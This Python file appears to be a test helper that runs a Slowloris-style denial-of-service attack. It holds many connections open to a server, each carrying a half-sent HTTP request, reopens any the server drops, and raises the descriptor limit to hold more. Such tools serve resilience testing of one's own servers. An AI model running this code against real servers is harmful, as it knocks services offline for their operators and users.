"""A stranger that tries to hold many connections open, with half a request sent on each.

Its arguments are the server's address, how many connections, and after how many seconds those that
the server has closed are tried again. Told ``on`` and ``off`` on standard input. Prints how many
were tried, once all have been. Plain sockets, so that it takes little of the machine itself.
"""

from __future__ import annotations

import resource
import selectors
import socket
import sys
import time
from functools import partial
from typing import Final
from urllib.parse import urlsplit

HALF: Final = b"GET /jobs HTTP/1.1\r\nHost: localhost\r\nX: "
#: descriptors besides the connections
OTHERS: Final = 50


class Stranger:
    """Half-open connections, as many as it can get."""

    def __init__(self, address: tuple[str, int], count: int, pause: float) -> None:
        """Connect to nobody yet."""
        self._address = address
        self._count = count
        self._pause = pause
        self._lines: set[socket.socket] = set()
        self._tried = 0
        self._next = 0.0
        self._is_on = self._is_over = False
        self._selector = selectors.DefaultSelector()
        self._selector.register(sys.stdin, selectors.EVENT_READ, self._obey)

    def run(self) -> None:
        """Do as told until standard input ends."""
        while not self._is_over:
            now = time.monotonic()
            if self._is_on and now >= self._next:
                self._next = now + self._pause
                for _ in range(self._count - len(self._lines)):
                    self._open()
            for key, events in self._selector.select(self._pause):
                key.data(events)

    def _obey(self, _: int) -> None:
        told = sys.stdin.readline()
        self._is_over = not told
        self._turn(told.strip() == "on")

    def _turn(self, on: bool) -> None:
        self._is_on, self._next = on, 0.0
        for line in [] if on else list(self._lines):
            self._close(line)

    def _open(self) -> None:
        line = socket.socket()
        line.setblocking(False)
        line.connect_ex(self._address)
        self._lines.add(line)
        self._selector.register(line, selectors.EVENT_WRITE, partial(self._send, line))

    def _send(self, line: socket.socket, _: int) -> None:
        if line not in self._lines:  # closed in this very round
            return
        self._tried += 1
        try:
            line.send(HALF)
            self._selector.modify(line, selectors.EVENT_READ, partial(self._close, line))
        except OSError:
            self._close(line)
        if self._tried == self._count:
            print(self._tried, flush=True)

    def _close(self, line: socket.socket, _: int = 0) -> None:
        """The server has closed it, or it is to be closed."""
        if line in self._lines:
            self._lines.discard(line)
            self._selector.unregister(line)
            line.close()


def main() -> None:
    """Attack the server of the command line."""
    address, count = urlsplit(sys.argv[1]), int(sys.argv[2])
    assert address.hostname is not None
    assert address.port is not None
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + OTHERS
    resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, max(wanted, hard)))
    Stranger((address.hostname, address.port), count, float(sys.argv[3])).run()


if __name__ == "__main__":
    main()
